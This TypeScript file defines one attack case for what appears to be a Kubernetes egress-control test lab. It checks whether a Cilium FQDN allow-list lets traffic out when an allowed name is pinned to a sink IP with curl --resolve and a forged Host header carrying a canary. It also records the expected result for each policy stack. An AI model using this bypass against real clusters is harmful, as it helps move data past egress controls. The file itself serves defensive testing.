import { defineAttack } from '../define-attack.ts';
import { allowed, blocked, cniDrop, cniEnforces, labNote, sidecarEnforces } from '../expectation-builders.ts';
import { plan } from '../plans.ts';
import { sinkControl } from '../controls.ts';
import { REF } from '../references.ts';
import { intruder } from '../attackers.ts';

const ID = 'EG5';
const TAG = `Cilium toFQDNs allows the IPs the name resolved to, whatever Host or SNI the client sends — ${REF.ciliumPolicyLanguage.cite}`;
export const EG5_ALLOWED_NAME = 'allowed.test';

export const EG5 = defineAttack({
  id: ID,
  family: 'egress-exfiltration',
  title: 'FQDN allow-list by IP: an allowed name pinned to the sink',
  technique: `intruder calls http://${EG5_ALLOWED_NAME}/<canary> with curl --resolve pinning that name to the sink IP and a Host header naming another site.`,
  preconditions: [`an FQDN allow-list that admits ${EG5_ALLOWED_NAME} (the layered set has none: there the plain default-deny answers)`],
  references: [REF.ciliumPolicyLanguage, REF.egressControl, REF.networkPolicy],
  success: 'sink-canary',
  source: TAG,
  attempt: (context) => {
    const { sink } = context.addresses;
    return plan({
      pod: intruder(context, ID, 'attempt').build(),
      script: 'http-probe.sh',
      canary: context.canary,
      env: {
        TARGET_URL: `http://${EG5_ALLOWED_NAME}:${sink.httpPort}/${context.canary}`,
        RESOLVE: `${EG5_ALLOWED_NAME}:${sink.httpPort}:${sink.ip}`,
        HOST_HEADER: `${context.canary}.${sink.dnsZone}`,
      },
      flow: { protocol: 'http', destinationIp: sink.ip, destinationPort: sink.httpPort, destinationName: EG5_ALLOWED_NAME },
    });
  },
  control: (context) => sinkControl(context, ID, 'http'),
  expect: (stack) => {
    if (sidecarEnforces(stack)) return blocked('mesh-sidecar', 'http-502', `${TAG}; REGISTRY_ONLY and no ServiceEntry for the name`, 'inferred', labNote(stack));
    if (cniEnforces(stack)) return cniDrop(`${TAG}; the layered set has no toFQDNs allow, so default-deny answers`, 'inferred', labNote(stack));
    return allowed(TAG, 'documented', labNote(stack));
  },
});
